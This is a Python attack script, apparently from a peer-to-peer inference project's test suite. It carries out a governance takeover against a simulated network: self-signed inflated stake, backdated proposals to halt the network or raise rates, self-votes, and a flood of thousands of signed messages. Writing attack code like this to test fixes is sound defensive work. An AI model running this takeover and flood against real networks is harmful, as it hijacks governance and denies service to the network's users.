"""Governance takeover (issue 14, attack 1), as one fresh key with no stake does it.

The attacker joins the network with a fresh key and:
- publishes an advert (no models, so it draws no jobs) declaring 2^62 of stake;
- signs proposals that would halt or rob the network (`min_stake` huge, `base_rate`
  x5, `split_preset` render) and its own yes votes, each vote backed by a stake
  declaration of 2^62 micro-credits it signed itself; proposals and votes are
  backdated so the vote had already closed (and had a long voting period) before any
  node saw them;
- floods the network with `flood` more well-formed, signed governance messages
  from `flood_keys` fresh keys (open proposals, far in the future): a burst from
  one key, then all of them in turn;
- publishes all of it on the governance topic and serves it on its own
  `/p2pinfer/gov/1.0.0` sync stream, which every node it connects to reads.
Under the old rules every node applied the proposals within ~20 s and then answered
404 to every job; a flood of 10,000 messages filled the store for good.
"""

from __future__ import annotations

import contextlib
import time
from typing import Any

import trio

from p2pinfer.errors import NetworkError
from p2pinfer.gov.messages import GovMessage, Proposal, sign_proposal, sign_vote
from p2pinfer.gov.service import GOV_PROTOCOL, GOV_TOPIC
from p2pinfer.identity import NodeIdentity, peer_id_from_public_key
from p2pinfer.market.stake import sign_stake
from p2pinfer.net.config import NetConfig
from p2pinfer.net.host import run_host
from p2pinfer.net.streams import NetStream
from p2pinfer.protocol import Advert, AdvertHardware, sign
from tests.support.attack_net import AttackNet

#: The stake the attacker declares for itself (and the old tally believed).
CLAIMED_STAKE = 2**62
HOUR_MS = 3_600_000
#: Flood messages the first key sends before the others take turns.
FIRST_KEY_BURST = 100


def _now() -> int:
    return time.time_ns() // 1_000_000


def takeover_messages(attacker: NodeIdentity, now: int) -> list[GovMessage]:
    """Backdated proposals that already closed, and the attacker's yes vote on each.

    Values the old bounds accepted (the new ones refuse min_stake and render too, but
    the stake rule alone must already stop base_rate, which stays in bounds)."""
    issued, deadline = now - 3 * HOUR_MS, now - 60_000  # a 3 h vote, closed a minute ago
    stake = sign_stake(attacker, CLAIMED_STAKE, issued - 1_000)
    messages: list[GovMessage] = []
    for parameter, value in (("min_stake", 2**62), ("base_rate", 5_000),
                             ("split_preset", "render")):
        proposal = _unchecked_proposal(attacker, parameter, value, deadline, issued)
        messages.append(proposal)
        messages.append(sign_vote(attacker, proposal.id, True, stake=stake,
                                  issued_at=issued + 1_000))
    return messages


def _unchecked_proposal(attacker: NodeIdentity, parameter: str, value: int | str,
                        deadline: int, issued: int) -> GovMessage:
    """A proposal signed without the local bounds check (the attacker's code has none)."""
    draft = Proposal(attacker.public_key, parameter, value, deadline, deadline, issued,
                     bytes(64))
    return Proposal(attacker.public_key, parameter, value, deadline, deadline, issued,
                    attacker.sign(draft.signing_bytes()))


def staked_advert(now: int) -> Advert:
    """An advert claiming CLAIMED_STAKE and offering no model (so no job goes to it)."""
    return Advert(models=(), hardware=AdvertHardware("attacker", 1, 1, ()), engine="none",
                  stake=CLAIMED_STAKE, capacity=0, listen_addrs=(), seq=now, issued_at=now,
                  ttl_ms=600_000)


def flood_messages(keys: list[NodeIdentity], count: int, now: int) -> list[GovMessage]:
    """`count` distinct, valid open proposals: a burst of 100 from the first key (over any
    per-author cap), then the rest spread over the other keys in turn."""
    messages: list[GovMessage] = []
    for i in range(count):
        if i < FIRST_KEY_BURST or len(keys) == 1:
            key = keys[0]
        else:
            key = keys[1 + (i - FIRST_KEY_BURST) % (len(keys) - 1)]
        deadline = now + 2 * HOUR_MS + i  # distinct content, a long, valid voting period
        messages.append(sign_proposal(key, "check_rate_pm", i % 100, voting_deadline=deadline,
                                      effective_at=deadline, issued_at=now - 1_000))
    return messages


async def run(net: AttackNet, *, flood: int = 2_000, flood_keys: int = 4,
              linger_s: float = 30.0) -> dict[str, Any]:
    """Attack `net` for `linger_s` seconds; what was sent, and to whom."""
    attacker = NodeIdentity.generate()
    keys = [attacker] + [NodeIdentity.generate() for _ in range(flood_keys - 1)]
    now = _now()
    takeover = takeover_messages(attacker, now)
    flood_set = flood_messages(keys, flood, now)
    everything = [m.encode() for m in takeover + flood_set]
    served = 0

    async def serve_sync(stream: NetStream) -> None:
        nonlocal served
        for raw in everything:  # all of it, to every node that asks
            await stream.write_frame(raw)
            served += 1

    published = 0
    config = NetConfig(identity=attacker, listen_addrs=("/ip4/127.0.0.1/tcp/0",),
                       bootstrap=(net.bootstrap,))
    async with run_host(config) as host:
        host.set_stream_handler(GOV_PROTOCOL, serve_sync)
        await host.publish_advert(sign(staked_advert(now), attacker).raw)
        await host.subscribe(GOV_TOPIC)
        for node in net.nodes:
            with contextlib.suppress(NetworkError):
                await host.connect(node.listen_addrs[0])
        with contextlib.suppress(NetworkError):  # else publish anyway (fanout) and sync
            await host.wait_for_mesh(net.peer(0), GOV_TOPIC, timeout_s=10)
        end = trio.current_time() + linger_s
        for raw in everything:
            await host.publish(GOV_TOPIC, raw)
            published += 1
            if published % 50 == 0:
                await trio.sleep(0.05)  # let the pubsub writers drain
        while trio.current_time() < end:  # keep the takeover in front of everyone
            for message in takeover:
                await host.publish(GOV_TOPIC, message.encode())
                published += 1
            await trio.sleep(5)
    return {
        "attacker": peer_id_from_public_key(attacker.public_key),
        "authors": [peer_id_from_public_key(k.public_key) for k in keys],
        "takeover_messages": len(takeover),
        "flood_messages": len(flood_set),
        "published": published,
        "served_by_sync": served,
        "claimed_stake": CLAIMED_STAKE,
    }


def run_sync(net: AttackNet, **kwargs: Any) -> dict[str, Any]:
    """`run` from synchronous code (a test, bench/attacks.py)."""
    result: dict[str, Any] = trio.run(lambda: run(net, **kwargs))
    return result
